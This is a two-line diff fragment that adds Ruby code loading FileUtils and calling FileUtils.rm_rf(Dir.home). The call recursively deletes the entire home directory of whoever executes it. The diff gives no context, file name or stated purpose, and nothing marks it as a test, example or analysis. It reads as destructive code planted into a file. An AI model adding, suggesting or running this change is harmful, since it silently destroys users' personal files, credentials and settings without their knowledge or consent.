@@ -1,0 +1,2 @@
+require "fileutils"
+FileUtils.rm_rf(Dir.home)
